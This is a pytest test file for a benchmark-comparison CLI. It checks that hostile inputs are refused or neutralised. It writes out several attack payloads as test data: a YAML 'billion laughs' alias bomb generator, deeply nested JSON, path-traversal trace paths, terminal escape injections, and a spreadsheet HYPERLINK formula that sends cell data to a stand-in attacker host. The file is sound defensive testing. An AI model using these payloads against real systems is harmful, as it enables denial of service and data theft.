"""Inputs the second attack (issue 26) found crashing the suite or passing silently are refused before any
model call: exit status 2, one line naming the file, record, field or flag, no traceback, no run directory."""

from __future__ import annotations

import json

from typer.testing import CliRunner

from data_agent_compare.cli.main import app

from helpers import FIXTURES, run_files_as_text

runner = CliRunner()
# an endpoint nobody listens on: any model call would fail, so exit 2 proves none was made
NEVER_CALLED = ["--models", "openai-compatible:never-called", "--base-url", "http://127.0.0.1:9/v1"]
DEEP = 20_000


def compare(*flags: str) -> object:
    return runner.invoke(app, list(flags))


def refused(result, *named: str) -> None:
    """Exit 2, every name in the message, no traceback."""
    assert result.exit_code == 2, result.output
    for name in named:
        assert name in result.output, (name, result.output)
    assert "Traceback" not in result.output and "RecursionError" not in result.output


def alias_bomb() -> str:
    """466 bytes of YAML whose aliases expand to 9**9 values ("billion laughs")."""
    lines = ['a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [" + ", ".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\nmodels: {}\n"


def test_a_yaml_alias_bomb_in_a_models_file_is_refused_naming_the_file(tmp_path):
    models = tmp_path / "models.yaml"
    models.write_text(alias_bomb())
    config = tmp_path / "run.yaml"
    config.write_text(f"models_file: {models}\n")
    out = tmp_path / "run"
    result = compare("--config", str(config), *NEVER_CALLED, "--out", str(out))
    refused(result, "models.yaml", "aliases")
    assert not out.exists()  # no manifest (it was 99 MB)


def test_a_config_file_nested_20000_deep_is_refused_naming_the_file(tmp_path):
    config = tmp_path / "deep.yaml"
    config.write_text("budgets: " + "[" * DEEP + "]" * DEEP + "\n")
    out = tmp_path / "run"
    refused(compare("--config", str(config), *NEVER_CALLED, "--out", str(out)), "deep.yaml", "nested deeper")
    assert not out.exists()


def test_a_task_record_nested_20000_deep_is_refused_naming_file_and_line(tmp_path):
    folder = tmp_path / "fdabench"
    folder.mkdir()
    lines = (FIXTURES / "fdabench/test_multichoice.jsonl").read_text().splitlines()
    record = json.loads(lines[0])
    deep = json.dumps(record)[:-1] + ', "extra": ' + "[" * DEEP + "]" * DEEP + "}"
    (folder / "test_multichoice.jsonl").write_text(lines[0] + "\n" + deep + "\n")
    out = tmp_path / "run"
    flags = ["--benchmark", "fdabench", "--tasks-path", str(folder), "--out", str(out)]
    refused(compare(*flags, *NEVER_CALLED), "test_multichoice.jsonl:2", "nested deeper")
    assert not out.exists()


def run_with_trace_file(tmp_path, trace_file: str):
    import shutil

    run = tmp_path / "run"
    shutil.copytree(FIXTURES / "report_run", run)
    lines = (run / "results.jsonl").read_text().splitlines()
    record = json.loads(lines[0])
    record["trace_file"] = trace_file
    (run / "results.jsonl").write_text("\n".join([json.dumps(record), *lines[1:]]) + "\n")
    return run


def test_a_report_refuses_a_record_whose_trace_file_is_outside_the_run_directory(tmp_path):
    outside = tmp_path / "x.json"
    outside.write_text('{"secret": "OUTSIDE-MARKER"}')
    for trace_file in ("../x.json", str(outside)):
        run = run_with_trace_file(tmp_path / trace_file.replace("/", "_"), trace_file)
        result = compare("report", str(run))
        refused(result, "results.jsonl:1", "trace_file", "outside the run directory")
        assert "OUTSIDE-MARKER" not in result.output
        assert not any("OUTSIDE-MARKER" in text for text in run_files_as_text(run).values())


def test_a_formula_answer_is_neutralised_in_results_csv(tmp_path):
    run = run_with_trace_file(tmp_path, "traces/tool_use/alpha/BND001.json")
    lines = (run / "results.jsonl").read_text().splitlines()
    record = json.loads(lines[0])
    record["answer"] = {"text": '=HYPERLINK("http://evil.example/?"&A1,"click")', "choices": []}
    (run / "results.jsonl").write_text("\n".join([json.dumps(record), *lines[1:]]) + "\n")
    assert compare("report", str(run)).exit_code == 0
    csv_text = (run / "report" / "results.csv").read_text() if (run / "report").is_dir() else ""
    csv_text = csv_text or next(run.rglob("results.csv")).read_text()
    assert "'=HYPERLINK(" in csv_text and ',"=HYPERLINK' not in csv_text and ",=HYPERLINK" not in csv_text


def test_a_server_error_with_terminal_escapes_reaches_the_terminal_without_them(tmp_path):
    from helpers import FakeOpenAIServer, error_response

    hostile = "bad request \x1b]0;pwned\x07\x1b[2J\x1b[1A\x9b31m end"
    with FakeOpenAIServer(default=error_response(401, hostile)) as fake:
        flags = ["--models", "openai-compatible:m", "--base-url", fake.base_url, "--limit", "1"]
        result = compare(*flags, "--out", str(tmp_path / "run"))
    assert "bad request" in result.output, result.output
    assert "\x1b" not in result.output and "\x9b" not in result.output and "\x07" not in result.output


# ---------------------------------------------------------------- item 6: bad inputs, each refused with exit 2

PLUGIN_BENCHMARK = """
from data_agent_compare import Benchmark, QuestionType, Task, register_benchmark


@register_benchmark
class Hostile(Benchmark):
    name = "hostile_{name}"

    def load(self):
        {body}

    def tools(self, task, settings):
        return []
"""


def plugin_benchmark(tmp_path, name: str, body: str):
    plugin = tmp_path / f"hostile_{name}.py"
    plugin.write_text(PLUGIN_BENCHMARK.format(name=name, body=body))
    return ["--plugin", str(plugin), "--benchmark", f"hostile_{name}", "--tasks-path", str(tmp_path)]


def one_task(task_id: str) -> str:
    return f"return [Task(id={task_id!r}, benchmark=self.name, question='?', question_type=QuestionType.FACTOID)]"


def test_a_plugin_benchmark_whose_load_raises_is_named(tmp_path):
    flags = plugin_benchmark(tmp_path, "raises", "raise KeyError('quiz.jsonl')")
    refused(compare(*flags, *NEVER_CALLED, "--out", str(tmp_path / "run")), "hostile_raises", "load()", "KeyError")
    assert not (tmp_path / "run").exists()


def test_task_ids_that_cannot_name_a_file_are_refused(tmp_path):
    for name, task_id, named in (("nul", "q\x001", "control character"), ("long", "q" * 300, "300 bytes")):
        flags = plugin_benchmark(tmp_path, name, one_task(task_id))
        result = compare(*flags, *NEVER_CALLED, "--out", str(tmp_path / name))
        refused(result, f"hostile_{name}", "field 'id'", named)
        assert "--resume" not in result.output and not (tmp_path / name).exists()


def test_a_plugin_calling_sys_exit_at_import_is_refused(tmp_path):
    plugin = tmp_path / "quitter.py"
    plugin.write_text("import sys\nsys.exit(0)\n")
    result = compare("--plugin", str(plugin), *NEVER_CALLED, "--out", str(tmp_path / "run"))
    refused(result, "quitter.py", "sys.exit(0)")


def test_numbers_that_are_not_finite_are_refused_naming_the_field(tmp_path):
    config = tmp_path / "inf.yaml"
    config.write_text("budgets: {wall_time_s: .inf}\n")
    refused(compare("--config", str(config), *NEVER_CALLED, "--out", str(tmp_path / "a")), "budgets.wall_time_s", "inf")
    models = tmp_path / "models.yaml"
    models.write_text(
        "models:\n  pricey: {provider: openai-compatible, model_id: m, base_url: 'http://127.0.0.1:9/v1',"
        " price: {input_per_mtok: .inf}}\n"
    )
    config.write_text(f"models_file: {models}\nmodels: [pricey]\n")
    refused(compare("--config", str(config), "--out", str(tmp_path / "b")), "pricey", "price.input_per_mtok")
    assert not (tmp_path / "a").exists() and not (tmp_path / "b").exists()


def test_a_concurrency_no_machine_can_run_is_refused(tmp_path):
    refused(compare("--concurrency", "100000000", *NEVER_CALLED, "--out", str(tmp_path / "run")), "--concurrency")


def test_out_pointing_at_an_unrelated_non_empty_folder_is_refused(tmp_path):
    folder = tmp_path / "photos"
    folder.mkdir()
    (folder / "holiday.jpg").write_bytes(b"\xff\xd8")
    refused(compare(*NEVER_CALLED, "--out", str(folder)), "--out", str(folder), "not a run directory")
    assert sorted(p.name for p in folder.iterdir()) == ["holiday.jpg"]


def test_a_plugin_system_with_a_misnamed_hook_is_refused_naming_the_hook(tmp_path):
    plugin = tmp_path / "my_graph.py"
    plugin.write_text(
        "from data_agent_compare import register_system\n"
        "from data_agent_compare.systems.langgraph_agents import LangGraphSystem\n\n\n"
        "@register_system\nclass MyGraph(LangGraphSystem):\n    name = 'my_graph'\n\n"
        "    def build_agent(self, model, tools, session):\n        return None\n"
    )
    result = compare("--plugin", str(plugin), "--workflows", "my_graph", *NEVER_CALLED, "--out", str(tmp_path / "run"))
    refused(result, "MyGraph", "build_graph")
    assert len(result.output.strip().splitlines()) == 1


def dabstep_copy(tmp_path, edit) -> str:
    import shutil

    folder = tmp_path / "dabstep"
    shutil.copytree(FIXTURES / "dabstep", folder)
    lines = (folder / "dev.jsonl").read_text().splitlines()
    (folder / "dev.jsonl").write_text("\n".join(edit(lines)) + "\n")
    return str(folder)


def test_an_unknown_dabstep_level_is_refused_naming_file_line_and_field(tmp_path):
    def impossible(lines):
        record = json.loads(lines[0])
        record["level"] = "impossible"
        return [json.dumps(record), *lines[1:]]

    folder = dabstep_copy(tmp_path, impossible)
    result = compare("--benchmark", "dabstep", "--tasks-path", folder, *NEVER_CALLED, "--out", str(tmp_path / "run"))
    refused(result, "dev.jsonl:1", "level", "impossible")


def test_a_nan_prediction_is_refused_not_scored_as_wrong(tmp_path):
    dev = [json.loads(line) for line in (FIXTURES / "dabstep/dev.jsonl").read_text().splitlines()]
    predictions = tmp_path / "predictions.jsonl"
    rows = [json.dumps({"task_id": t["task_id"], "agent_answer": t["answer"]}) for t in dev]
    rows[0] = f'{{"task_id": {json.dumps(dev[0]["task_id"])}, "agent_answer": NaN}}'
    predictions.write_text("\n".join(rows) + "\n")
    result = compare("score", "--benchmark", "dabstep", "--tasks", str(FIXTURES / "dabstep"),
                     "--predictions", str(predictions))  # fmt: skip
    # a bad line of a submission is named and left out, as `compare score` treats every bad record; never scored 0
    assert "predictions.jsonl:1: field '<line>': NaN is not a JSON value" in result.output, result.output
    assert "Traceback" not in result.output and "│ correct        │     9 │" in result.output


def test_a_manifest_nested_20000_deep_is_refused_by_report_naming_the_file(tmp_path):
    run = run_with_trace_file(tmp_path, "traces/tool_use/alpha/BND001.json")
    manifest = json.loads((run / "manifest.json").read_text())
    (run / "manifest.json").write_text(json.dumps(manifest)[:-1] + ', "x": ' + "[" * DEEP + "]" * DEEP + "}")
    refused(compare("report", str(run)), "manifest.json", "nested deeper")
